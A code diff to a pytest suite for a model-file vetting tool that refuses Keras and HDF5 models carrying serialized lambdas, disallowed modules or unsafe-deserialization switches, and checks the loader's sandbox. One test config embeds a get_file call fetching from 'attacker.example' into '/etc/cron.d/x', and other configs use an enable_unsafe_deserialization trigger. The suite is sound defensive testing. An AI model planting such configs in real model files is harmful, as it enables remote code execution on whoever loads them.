@@ -10,7 +10,12 @@ from __future__ import annotations
 
 import json
 import os
+import socket
+import subprocess
+import sys
+import tempfile
 import time
+import warnings
 import zipfile
 from pathlib import Path
 
@@ -70,7 +75,45 @@ def files(tmp_path_factory) -> dict[str, Path]:
     save("ten.keras", _functional(keras, n_classes=10))
     save("linear.keras", _functional(keras, activation="linear"))
     save("custom.keras", _functional(keras, middle=Doubler(name="doubler")))
+    save("nested_compiled.keras", _nested_compiled(keras))
+    paths["nested_lambda_loss.keras"] = folder / "nested_lambda_loss.keras"
+    _replace_nested_loss(
+        paths["nested_compiled.keras"],
+        paths["nested_lambda_loss.keras"],
+        _serialised_lambda(keras),
+    )
     return paths
+
+
+def _serialised_lambda(keras) -> dict:
+    """A Python lambda as Keras writes it into a config (a "__lambda__" object with its bytecode)."""
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore")  # Keras warns that such a file needs safe_mode=False
+        return keras.saving.serialize_keras_object(lambda y, p: y - p)
+
+
+def _nested_compiled(keras):
+    """A backbone that was compiled (as a loaded, pretrained model is) inside a new model: Keras stores its
+    compile_config and deserialises it on load, even with compile=False."""
+    inner_in = keras.Input((SIZE, SIZE, 3))
+    x = keras.layers.Conv2D(4, 3, activation="relu", name="conv")(inner_in)
+    inner = keras.Model(inner_in, keras.layers.GlobalAveragePooling2D(name="gap")(x), name="backbone")
+    inner.compile(optimizer="adam", loss="categorical_crossentropy", metrics=["accuracy"])
+    outer_in = keras.Input((SIZE, SIZE, 3))
+    return keras.Model(outer_in, keras.layers.Dense(5, activation="softmax", name="head")(inner(outer_in)))
+
+
+def _replace_nested_loss(source: Path, target: Path, loss) -> None:
+    """Copy a real .keras archive, with ``loss`` in the nested model's stored compile_config."""
+    with zipfile.ZipFile(source) as src, zipfile.ZipFile(target, "w") as out:
+        for info in src.infolist():
+            data = src.read(info)
+            if info.filename == "config.json":
+                config = json.loads(data)
+                backbone = next(e for e in config["config"]["layers"] if e.get("name") == "backbone")
+                backbone["compile_config"]["loss"] = loss
+                data = json.dumps(config).encode()
+            out.writestr(info, data)
 
 
 @pytest.fixture
@@ -133,7 +176,8 @@ def test_a_lambda_layer_in_a_keras_archive_is_refused(files, no_loader):
         validate_model_file(files["lambda.keras"])
 
 
-def test_a_lambda_layer_in_an_h5_file_is_refused_before_loading(files, no_loader):
+def test_a_lambda_layer_in_an_h5_file_is_refused_by_the_child_before_keras_loads_it(files):
+    """HDF5 is parsed only in the child (h5py is a large C parser); it inspects the architecture first."""
     with pytest.raises(ModelRejected, match=r"Layer 'lambda_1' is a Lambda layer: arbitrary code is not allowed"):
         validate_model_file(files["lambda.h5"])
 
@@ -151,8 +195,32 @@ def test_keras_safe_mode_in_the_loader_also_refuses_a_lambda(files):  # loads
     """Defence in depth: even if the inspection were bypassed, the loader runs with safe_mode=True."""
     with pytest.raises(ModelRejected, match=r"(?i)keras could not load the model.*lambda"):
         vetting._load_in_child(
-            files["lambda.keras"], "keras", expected_classes=5, timeout_s=60, memory_limit_mb=4096, sleep_s=0
+            files["lambda.keras"],
+            "keras",
+            expected_classes=5,
+            timeout_s=60,
+            memory_limit_mb=4096,
+            sleep_s=0,
+            inspect=False,  # the child's own architecture walk would refuse it first
         )
+
+
+def test_a_lambda_in_a_nested_models_compile_config_is_refused_before_loading(files, no_loader):
+    """Keras deserialises a nested model's compile_config even with compile=False; only safe_mode stopped it."""
+    with pytest.raises(ModelRejected) as caught:
+        validate_model_file(files["nested_lambda_loss.keras"])
+    assert str(caught.value) == (
+        "Nested model 'backbone' (its saved compile settings) contains serialised Python code (a lambda): "
+        "arbitrary code is not allowed."
+    )
+
+
+def test_a_nested_model_compiled_with_builtin_settings_is_accepted(files):
+    with zipfile.ZipFile(files["nested_compiled.keras"]) as archive:
+        config = json.loads(archive.read("config.json"))
+    backbone = next(e for e in config["config"]["layers"] if e.get("name") == "backbone")
+    assert backbone["compile_config"]["optimizer"]["class_name"] == "Adam"  # really there, and checked
+    inspect_architecture(config)
 
 
 def _keras3_config(*layers, **extra) -> dict:
@@ -245,6 +313,72 @@ def _layer(class_name, name, module="keras.layers", registered_name=None, **conf
                 _layer(
                     "Dense",
                     "head",
+                    kernel_initializer={
+                        "module": "keras.utils",
+                        "class_name": "get_file",
+                        "config": {"origin": "http://attacker.example/x", "fname": "/etc/cron.d/x"},
+                        "registered_name": None,
+                    },
+                )
+            ),
+            "Layer 'head' uses get_file from module 'keras.utils', which is not one of the built-in Keras objects",
+            id="keras-utils-get-file",
+        ),
+        pytest.param(
+            _keras3_config(
+                _layer(
+                    "Dense",
+                    "head",
+                    bias_initializer={
+                        "module": "keras.config",
+                        "class_name": "enable_unsafe_deserialization",
+                        "config": {},
+                        "registered_name": None,
+                    },
+                )
+            ),
+            "uses enable_unsafe_deserialization from module 'keras.config', which is not one of the built-in",
+            id="keras-config-enable-unsafe-deserialization",
+        ),
+        pytest.param(
+            _keras3_config(
+                _layer(
+                    "Dense",
+                    "head",
+                    activation={
+                        "module": "keras.config",
+                        "class_name": "function",
+                        "config": "enable_unsafe_deserialization",
+                        "registered_name": "enable_unsafe_deserialization",
+                    },
+                )
+            ),
+            "refers to the function 'keras.config.enable_unsafe_deserialization'",
+            id="keras-config-function",
+        ),
+        pytest.param(
+            _keras3_config(_layer("Conv2D", "conv", module="keras.src.saving.serialization_lib")),
+            "uses Conv2D from module 'keras.src.saving.serialization_lib'",
+            id="builtin-name-from-another-keras-module",
+        ),
+        pytest.param(
+            _keras3_config(
+                {
+                    **_layer("Functional", "backbone", module="keras.src.models.functional", layers=[]),
+                    "compile_config": {
+                        "optimizer": {"module": "keras.utils", "class_name": "get_file", "config": {}},
+                        "loss": "categorical_crossentropy",
+                    },
+                }
+            ),
+            "Nested model 'backbone' (its saved compile settings) uses get_file from module 'keras.utils'",
+            id="get-file-in-a-nested-compile-config",
+        ),
+        pytest.param(
+            _keras3_config(
+                _layer(
+                    "Dense",
+                    "head",
                     activation={"class_name": "__lambda__", "config": {"code": "...", "defaults": None}},
                 )
             ),
@@ -319,7 +453,7 @@ def test_a_zip_that_is_not_a_keras_archive_is_refused(tmp_path, no_loader):
         validate_model_file(fake)
 
 
-def test_a_weights_only_h5_is_refused(files, no_loader):
+def test_a_weights_only_h5_is_refused(files):
     with pytest.raises(ModelRejected, match=r"weights-only file, no model architecture"):
         validate_model_file(files["weights.weights.h5"])
 
@@ -363,3 +497,67 @@ def test_a_load_that_hangs_is_stopped_and_its_process_is_gone(files):
 def test_a_loader_over_its_memory_cap_is_refused_clearly(files):  # loads (and fails fast)
     with pytest.raises(ModelRejected, match=r"(?i)300 MB of memory allowed"):
         validate_model_file(files["good.keras"], memory_limit_mb=300)
+
+
+# --- the sandbox: HDF5, Keras and the ONNX export only ever run in the child ----------------------------
+
+PROBE_SCRIPT = """
+import json, sys
+from pathlib import Path
+from wbc_ml.vetting import validate_model_file
+result = validate_model_file(Path(sys.argv[1]), onnx_path=Path(sys.argv[2]), normalization={"method": "scale01"})
+heavy = ("h5py", "keras", "tensorflow", "onnxruntime", "tf2onnx")
+print(json.dumps({"imported": [m for m in heavy if m in sys.modules], "onnx_sha256": result.onnx_sha256,
+                  "onnx_status": result.onnx_status}))
+"""
+
+
+def test_the_calling_process_never_parses_hdf5_and_the_child_exports_the_onnx_copy(files, tmp_path):  # loads
+    onnx = tmp_path / "out" / "model.onnx"
+    done = subprocess.run(
+        [sys.executable, "-c", PROBE_SCRIPT, str(files["good.h5"]), str(onnx)],
+        cwd=vetting.REPO_ROOT,
+        capture_output=True,
+        text=True,
+        timeout=180,
+    )
+    assert done.returncode == 0, done.stderr[-2000:]
+    report = json.loads(done.stdout.strip().splitlines()[-1])
+    assert report["imported"] == []  # neither h5py nor TensorFlow/Keras nor ONNX Runtime in the caller
+    assert report["onnx_status"].startswith("ONNX Runtime"), report["onnx_status"]
+    assert onnx.is_file() and file_sha256(onnx) == report["onnx_sha256"]
+
+
+@pytest.fixture
+def listener():
+    """A real TCP listener on 127.0.0.1 that the child must not be able to reach."""
+    server = socket.create_server(("127.0.0.1", 0))
+    yield server.getsockname()[1]
+    server.close()
+
+
+def test_the_child_gets_a_scrubbed_environment_a_private_home_and_resource_limits(monkeypatch, listener):
+    monkeypatch.setenv("WBC_TEST_SECRET", "must-not-leak")
+    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "must-not-leak-either")
+    monkeypatch.setenv("DATABASE_URL", "postgres://user:password@db/wbc")
+    report = vetting.describe_sandbox(connect_port=listener, memory_limit_mb=1500)
+    assert set(report["env"]) <= vetting.CHILD_ENV_NAMES
+    assert {"PATH", "HOME", "PYTHONPATH"} <= set(report["env"])
+    assert "must-not-leak" not in json.dumps(report)
+    assert report["env"]["HOME"] == report["cwd"]
+    assert Path(report["cwd"]).parent == Path(tempfile.gettempdir()) and report["cwd_entries"] == []
+    assert not Path(report["cwd"]).exists()  # removed afterwards
+    assert report["rlimits"]["RLIMIT_DATA"] == 1500 * vetting.MIB
+    assert report["rlimits"]["RLIMIT_CORE"] == 0
+    assert 0 < report["rlimits"]["RLIMIT_NOFILE"] <= vetting.CHILD_MAX_OPEN_FILES
+    assert 0 < report["rlimits"]["RLIMIT_FSIZE"] <= vetting.CHILD_MAX_WRITTEN_MB * vetting.MIB
+
+
+def test_the_child_has_no_network_where_the_host_allows_it(listener):
+    if vetting.network_isolation() is None:
+        pytest.skip("unshare cannot make a network namespace on this host (documented in wbc_ml/vetting.py)")
+    report = vetting.describe_sandbox(connect_port=listener)
+    assert report["network"].startswith("unreachable"), report["network"]
+    # the same probe without the namespace does reach the listener, so the check above can fail
+    with socket.create_connection(("127.0.0.1", listener), timeout=5):
+        pass
